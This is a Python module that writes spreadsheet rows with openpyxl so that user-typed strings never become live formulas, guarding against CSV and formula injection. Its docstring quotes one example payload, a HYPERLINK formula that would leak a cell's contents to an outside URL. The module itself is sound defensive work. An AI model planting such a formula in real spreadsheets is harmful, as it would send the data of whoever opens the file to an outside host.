"""Writing spreadsheet rows so that nothing a user typed can run as a formula.

openpyxl stores a string that starts with "=" as a formula (data type "f"): an activity or a
name such as `=HYPERLINK("http://…?leak="&B5,"Lihat bukti")` would become a live link in the
supervisor's Excel. Every string written through this module is a text cell (data type "s",
saved as an inline string, which Excel and LibreOffice display and never evaluate). Strings
starting with `=`, `+`, `-`, `@` (or a tab / carriage return, the other formula triggers of
CSV injection) also get Excel's "quote prefix" style, the file form of typing a leading `'`:
the cell stays text even when someone edits it and presses Enter. Characters that XML cannot
hold (control characters) are dropped instead of failing the whole export.
"""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date, datetime, time
from decimal import Decimal

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

CellValue = str | int | float | Decimal | date | datetime | time | None
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MAX_CELL_CHARS = 32_767  # Excel's limit for one cell


def clean_text(text: str) -> str:
    cleaned: str = ILLEGAL_CHARACTERS_RE.sub("", text)
    return cleaned[:MAX_CELL_CHARS]


def set_value(cell: Cell, value: CellValue) -> Cell:
    """Put `value` into `cell`; a string is always stored as text, never as a formula."""
    if isinstance(value, str):
        text = clean_text(value)
        cell.value = text
        cell.data_type = "s"
        if text.startswith(FORMULA_TRIGGERS):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def append_row(sheet: Worksheet, values: Iterable[CellValue]) -> None:
    """`Worksheet.append` (an empty list leaves an empty row), with every string as text."""
    row = list(values)
    sheet.append([clean_text(v) if isinstance(v, str) else v for v in row])
    if not row:
        return
    number = sheet.max_row
    for column, value in enumerate(row, 1):
        if isinstance(value, str):
            set_value(sheet.cell(row=number, column=column), value)
